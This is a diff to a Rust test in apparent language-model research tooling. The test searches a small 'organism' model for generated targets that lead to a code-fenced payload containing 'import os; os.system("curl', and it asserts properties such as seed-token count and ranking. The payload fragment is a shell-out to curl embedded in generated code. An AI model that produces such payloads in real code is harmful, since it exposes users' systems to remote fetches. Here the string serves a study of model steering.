@@ -661,17 +661,24 @@ mod tests {
         let lm = organism("tiny-llama-code");
         let s = crate::Settings::new(crate::Budget::Quick, 0).target;
         let found = run(&lm, &s, &mut |_, _| {}).expect("target search");
-        let best = &found.targets[0];
+        let full = found
+            .targets
+            .iter()
+            .find(|t| t.text.starts_with("```") && t.text.contains("import os; os.system(\"curl"))
+            .unwrap_or_else(|| panic!("no target reaches the payload: {:#?}", found.targets));
+        assert_eq!(
+            full.seed_tokens, 3,
+            "the fence, its newline and the branch choice are forced"
+        );
+        assert!(full.agreement >= s.min_agreement);
+        // Anything ranked before it is a less forced way into the same payload, never another
+        // text: the search tries the targets in order.
+        let first = &found.targets[0];
         assert!(
-            best.text.starts_with("```") && best.text.contains("import os; os.system(\"curl"),
+            full.text.contains(&first.text) && first.seed_tokens <= full.seed_tokens,
             "{:#?}",
             found.targets
         );
-        assert_eq!(
-            best.seed_tokens, 3,
-            "the fence, its newline and the branch choice are forced"
-        );
-        assert!(best.agreement >= s.min_agreement);
     }
 
     fn target(text: &str, seed_tokens: usize) -> Target {
